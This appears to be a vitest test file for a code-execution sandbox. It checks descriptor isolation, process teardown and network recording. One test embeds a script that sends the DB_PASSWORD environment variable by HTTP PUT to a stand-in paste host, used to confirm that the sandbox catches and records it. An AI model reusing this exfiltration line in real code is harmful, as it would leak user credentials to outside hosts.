// The sandbox as part of a process: descriptors it inherited, its own death mid-run, and a host without `ip`.
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { ExecutionRecord } from '@sigma/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostProcessesWith, runFiles } from './testkit.js';
import { defaultSearchPath, which } from './tools.js';

const helper = fileURLToPath(new URL('./testdata/run-helper.ts', import.meta.url));
let scratch = '';
beforeAll(() => {
  scratch = mkdtempSync(join(tmpdir(), 'sigma-sbxlife-'));
});
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Starts the helper with an extra pipe on fd 5 that it inherits without close-on-exec, like a leaked descriptor. */
function startHelper(req: object) {
  const child = spawn(process.execPath, ['--import', 'tsx', helper, JSON.stringify(req)], { stdio: ['ignore', 'pipe', 'pipe', 'ignore', 'ignore', 'pipe'] });
  let out = '';
  let leaked = '';
  child.stdout?.on('data', (d: Buffer) => (out += d.toString()));
  (child.stdio as unknown as Readable[])[5]!.on('data', (d: Buffer) => (leaked += d.toString()));
  const done = new Promise<{ out: string; leaked: string; code: number | null }>((resolve) => child.on('close', (code) => resolve({ out, leaked, code })));
  return { child, done };
}

async function until(check: () => Promise<boolean>, ms: number): Promise<boolean> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (await check()) return true;
    await new Promise((r) => setTimeout(r, 100));
  }
  return check();
}

// Each helper process imports the engine through tsx and probes the sandbox first: slow on a loaded machine.
describe.concurrent('the sandbox inside its host process', { timeout: 120_000 }, () => {
  it('descriptors the host process inherited never reach the code', async () => {
    const code =
      'import os\n' +
      "print('fds', sorted(int(f) for f in os.listdir('/proc/self/fd')))\n" +
      'try:\n' +
      "    os.write(5, b'escaped through an inherited descriptor')\n" +
      "    print('wrote to 5')\n" +
      'except OSError as e:\n' +
      "    print('fd 5', e.errno)\n";
    const { done } = startHelper({ files: [{ path: 'fds.py', text: code }], entry: 'fds.py' });
    const { out, leaked, code: exit } = await done;
    expect(exit).toBe(0);
    const r = ExecutionRecord.parse(JSON.parse(out));
    expect(r.outcome, r.reason ?? '').toBe('COMPLETED');
    expect(leaked).toBe('');
    expect(r.stdout.excerpt).toContain('fd 5 9'); // EBADF
    expect(r.stdout.excerpt).toMatch(/fds \[0, 1, 2, 3\]/); // stdio and the directory being listed
  });

  it('when the SIGMA process dies mid-run, the sandboxed code dies with it', async () => {
    const marker = `orphan${randomBytes(4).toString('hex')}`;
    const { child, done } = startHelper({ files: [{ path: `${marker}.py`, text: 'while True:\n    pass\n' }], entry: `${marker}.py`, timeoutMs: 60_000 });
    const running = async () => hostProcessesWith(`/code/${marker}.py`, '/usr/bin/python3\0').length > 0;
    expect(await until(running, 90_000)).toBe(true);
    child.kill('SIGKILL');
    await done;
    expect(await until(async () => hostProcessesWith(marker).length === 0, 5000)).toBe(true);
  });

  it('without `ip` the sink joins bwrap’s namespace: names and payloads are still recorded, raw addresses fail and are listed', async () => {
    const dir = join(scratch, 'no-ip');
    mkdirSync(dir);
    for (const t of ['bwrap', 'strace', 'setpriv', 'prlimit', 'unshare', 'nsenter', 'mount', 'bash']) symlinkSync(which(t, defaultSearchPath())!, join(dir, t));
    const r = await runFiles(
      {
        'x.js':
          "require('net').connect(443, '93.184.216.34').on('error', (e) => console.log('raw', e.code));\n" +
          "fetch('http://paste.example.org/p', { method: 'PUT', body: process.env.DB_PASSWORD }).then((r) => console.log('status', r.status), (e) => console.log('fetch', e.cause?.code));\n",
      },
      'x.js',
      { envNames: ['DB_PASSWORD'] },
      { searchPath: dir },
    );
    expect(r.outcome, r.reason ?? '').toBe('COMPLETED');
    expect(r.recording).toMatchObject({ sink: true, anyAddress: false });
    expect(r.stdout.excerpt).toContain('raw ENETUNREACH');
    expect(r.stdout.excerpt).toContain('status 200');
    expect(r.attemptedConnections).toContainEqual(expect.objectContaining({ address: '93.184.216.34', port: 443, reachedSink: false, blocked: true }));
    expect(r.attemptedConnections).toContainEqual(
      expect.objectContaining({
        host: 'paste.example.org',
        port: 80,
        reachedSink: true,
        containsMock: ['DB_PASSWORD'],
        http: expect.objectContaining({ method: 'PUT' }),
      }),
    );
  });
});
